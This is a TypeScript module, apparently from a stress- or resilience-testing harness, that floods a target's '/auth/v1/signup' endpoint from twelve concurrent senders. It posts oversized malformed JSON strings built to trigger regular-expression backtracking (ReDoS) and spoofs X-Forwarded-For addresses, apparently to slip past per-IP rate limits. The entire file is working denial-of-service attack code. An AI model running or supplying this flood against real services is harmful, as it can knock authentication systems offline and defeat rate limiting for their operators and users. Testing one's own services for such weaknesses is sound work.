import { count, type Flood, repeat, type Tally } from './flood.ts';

/** Texts that cause backtracking in a regular expression for JSON strings; the short one is parsed. */
const bodies = ['"\\'.repeat(32_700), '"\\'.repeat(8_000)];
const senders = 12;

/** Twelve senders, each sending the next malformed sign-up after the previous response. */
export const signUpFlood: Flood = async ({ url, seconds }) => {
  const tally: Tally = {};
  await repeat(senders, seconds, async (sender) => {
    try {
      const answer = await fetch(`${url}/auth/v1/signup`, {
        method: 'POST',
        headers: {
          'Content-Type': 'application/json',
          'X-Forwarded-For': `203.0.113.${sender + 1}`,
        },
        body: bodies[sender % bodies.length] ?? '',
      });
      await answer.arrayBuffer();
      count(tally, answer.status);
    } catch {
      count(tally, 'connection refused or closed');
    }
  });
  return tally;
};
